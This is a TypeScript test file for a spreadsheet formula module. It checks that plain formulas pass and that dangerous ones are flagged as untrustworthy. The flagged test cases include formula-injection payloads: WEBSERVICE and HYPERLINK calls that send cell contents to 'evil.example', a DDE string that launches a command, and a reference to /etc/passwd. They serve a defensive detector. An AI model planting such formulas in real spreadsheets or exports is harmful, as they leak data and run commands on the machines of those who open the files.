import { expect, test } from 'vitest'
import {
  countFormulaTexts,
  formulaNote,
  formulaText,
  isFormulaCell,
  reasonToDistrustFormulas,
} from './formula.ts'

test.each([
  'SUM(E2:E4)',
  '=IF(A1>2,"a|b [c] https://x","no")',
  "'My sheet'!A1*2",
  'ROUND(AVERAGE(B2:B9),2)&" €"',
  'Table1[Price]*Table1[[#This Row],[Count]]',
  'XLOOKUP(A1,B:B,C:C)',
  '_xlfn.IFS(A1=1,"x")',
])('%s only calculates', (formula) => {
  expect(reasonToDistrustFormulas([{ a: { formula } }])).toBeUndefined()
})

test.each([
  'WEBSERVICE("https://evil.example/?"&A1)',
  '_xlfn.WEBSERVICE(A1)',
  'HYPERLINK("https://evil.example/?"&A1,"click")',
  'IMAGE(A1)',
  'IMPORTXML(A1,"//a")',
  "cmd|'/C calc'!A0",
  'DDE("soffice";"a";"b")',
  '[Book1.xlsx]Sheet1!A1',
  "'C:\\[Book1.xlsx]Sheet1'!A1",
  "'file:///etc/passwd'#$Sheet1.A1",
  'INDIRECT(A1)',
  'RTD("x",,"y")',
  'SUM(A1)+webservice (A2)',
])('%s can do more', (formula) => {
  expect(reasonToDistrustFormulas([[1, { formula }]])).toContain('A formula ')
})

test('newer functions get the prefix that files have, texts stay', () => {
  expect(formulaText({ formula: '=IFS(A1=1,"IFS(")+SUM(B1)+stdev.s(B:B)' })).toBe(
    '_xlfn.IFS(A1=1,"IFS(")+SUM(B1)+_xlfn.stdev.s(B:B)',
  )
  expect(formulaText({ formula: '_xlfn.IFS(A1=1,2)' })).toBe('_xlfn.IFS(A1=1,2)')
  expect(() => formulaText({ formula: ' = ' })).toThrow('1 to 8,192 characters')
})

test('a formula is an object of its own, never a text', () => {
  expect(isFormulaCell({ formula: 'A1' })).toBe(true)
  expect([
    isFormulaCell('=A1'),
    isFormulaCell({ formula: 1 }),
    isFormulaCell({ formula: 'A1', b: 1 }),
  ]).toEqual([false, false, false])
  expect(countFormulaTexts([{ a: '=SUM(E2:E4)', b: '= 5', c: '=', d: '== so ==', e: '-1' }, ['=A1']])).toBe(3)
  expect(formulaNote(1)).toEqual([expect.stringContaining('1 cell starting with = was kept as text')])
})
